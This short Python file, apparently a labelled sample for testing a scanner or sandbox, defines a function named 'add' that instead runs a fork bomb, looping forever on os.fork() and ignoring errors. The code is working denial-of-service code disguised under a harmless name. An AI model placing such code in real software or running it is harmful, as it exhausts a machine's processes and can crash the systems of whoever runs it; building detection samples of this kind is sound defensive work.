# ruff: noqa
# attack: fork bomb through os.fork
import os


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
